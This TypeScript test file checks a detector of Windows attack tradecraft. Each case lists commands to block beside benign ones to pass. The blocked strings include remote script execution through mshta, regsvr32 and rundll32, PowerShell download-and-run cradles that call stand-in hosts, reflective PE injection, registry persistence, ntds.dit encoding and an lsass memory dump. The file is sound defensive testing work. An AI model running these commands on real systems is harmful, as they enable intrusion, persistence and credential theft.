import { runCases, type TradecraftCase } from "./_tradecraft_testing.ts";

const CASES: TradecraftCase[] = [
  {
    id: "win.mshta_remote_or_script",
    block: [
      "mshta.exe https://cdn.example.org/update.hta",
      `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")`,
    ],
    pass: ["mshta.exe C:\\Program Files\\Vendor\\help.hta"],
  },
  {
    id: "win.regsvr32_squiblydoo",
    block: ["regsvr32.exe /s /u /i:https://198.51.100.20/x.sct scrobj.dll"],
    pass: ['regsvr32 /s "C:\\Program Files\\Vendor\\ocx\\grid.ocx"'],
  },
  {
    id: "win.rundll32_script_or_remote",
    block: [
      "rundll32 url.dll,OpenURL file://C:/Users/Public/a.hta",
      "rundll32.exe \\\\203.0.113.5@80\\share\\mod.dll,Start",
      "rundll32 advpack.dll,LaunchINFSection c:\\users\\public\\t.inf,DefaultInstall_SingleUser,1,",
    ],
    pass: ["rundll32.exe printui.dll,PrintUIEntry /in /n \\\\printsrv\\floor2"],
  },
  {
    id: "win.msiexec_remote",
    block: [
      "msiexec /q /i https://203.0.113.8/agent.msi",
      "msiexec.exe /y \\\\203.0.113.8\\s\\x.dll",
    ],
    pass: ["msiexec /i .\\tools\\python-3.12.msi /qn", "msiexec /x {1234-ABCD} /qn"],
  },
  {
    id: "win.dotnet_proxy_exec",
    block: [
      "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\svc.dll",
      "regasm.exe /U %TEMP%\\lib.dll",
    ],
    pass: ["installutil.exe C:\\Program Files\\Vendor\\VendorService.exe"],
  },
  {
    id: "win.msbuild_user_project",
    block: [
      "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe C:\\Users\\Public\\b.xml",
    ],
    pass: ["msbuild MySolution.sln /p:Configuration=Release"],
  },
  {
    id: "win.cmstp_inf",
    block: ["cmstp.exe /ni /s c:\\programdata\\profile.inf"],
    pass: ["cmstp.exe /?"],
  },
  {
    id: "win.wmic_process_create",
    block: [
      'wmic /node:fileserver02 /user:corp\\adm process call create "powershell -nop -w hidden"',
      'wmic os get /format:"https://203.0.113.4/s.xsl"',
    ],
    pass: [
      "wmic process where name='notepad.exe' get processid",
      "wmic os get caption /format:list",
    ],
  },
  {
    id: "win.invoke_wmi_create",
    block: [
      "Invoke-WmiMethod -ComputerName HR-PC7 -Class Win32_Process -Name Create -ArgumentList 'cmd /c whoami'",
    ],
    pass: ["Get-CimInstance Win32_Process | Select-Object Name"],
  },
  {
    id: "win.forfiles_proxy",
    block: ['forfiles /p C:\\Windows\\System32 /m cmd.exe /c "powershell -ep bypass"'],
    pass: ['forfiles /p D:\\logs /s /m *.log /d -30 /c "cmd /c del @path"'],
  },
  {
    id: "win.proxy_exec_misc",
    block: [
      "pcalua.exe -a C:\\Users\\Public\\run.exe",
      "odbcconf.exe /a {REGSVR C:\\ProgramData\\drv.dll}",
      "conhost.exe --headless C:\\Users\\Public\\run.exe",
    ],
    pass: ["odbcconf /?"],
  },
  {
    id: "win.script_host_remote",
    block: ["cscript //nologo \\\\203.0.113.3\\pub\\inv.vbs", "wscript.exe %APPDATA%\\upd.js"],
    pass: ["cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli"],
  },
  {
    id: "win.cmd_remote_batch",
    block: ["cmd.exe /c \\\\files.example.net\\drop\\run.bat"],
    pass: ["cmd /c dir \\\\nas01\\share"],
  },
  {
    id: "win.lolbin_download",
    block: [
      "esentutl.exe /y \\\\203.0.113.2\\s\\tool.exe /d C:\\Users\\Public\\tool.exe /o",
      "MpCmdRun.exe -DownloadFile -url https://203.0.113.2/x.exe -path C:\\Users\\Public\\x.exe",
    ],
    pass: ["esentutl /mh C:\\data\\db.edb", "MpCmdRun.exe -Scan -ScanType 1"],
  },
  {
    id: "win.ps_download_cradle",
    block: [
      "IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.9/a.ps1')",
      "iwr https://raw.example.org/s.ps1 -UseBasicParsing | iex",
    ],
    pass: ["Invoke-WebRequest -Uri https://example.com/report.csv -OutFile report.csv"],
  },
  {
    id: "win.ps_hidden_encoded_remote",
    block: [
      "powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ],
    pass: ["powershell -NoProfile -Command Get-Service"],
  },
  {
    id: "win.reflective_load",
    block: [
      "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b64)); [Payload.Run]::Main()",
      "Invoke-ReflectivePEInjection -PEBytes $bytes -ProcId 1234",
    ],
    pass: ["[System.Reflection.Assembly]::LoadFrom('C:\\app\\lib\\Vendor.dll')"],
  },
  {
    id: "win.office_test_persistence",
    block: [
      'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d C:\\Users\\Public\\o.dll',
    ],
    pass: ['reg query "HKCU\\Software\\Microsoft\\Office\\16.0\\Common"'],
  },
  {
    id: "win.certutil_encode_loot",
    block: ["certutil -encode C:\\ProgramData\\ntds.dit n.b64"],
    pass: ["certutil -hashfile setup.exe SHA256", "certutil -encode cert.der cert.pem"],
  },
  {
    id: "win.lsass_minidump_ps",
    block: ["Get-Process lsass | Out-Minidump -DumpFilePath C:\\ProgramData"],
    pass: ["Get-Process lsass | Select-Object Id,WorkingSet"],
  },
];

runCases("windows", CASES);
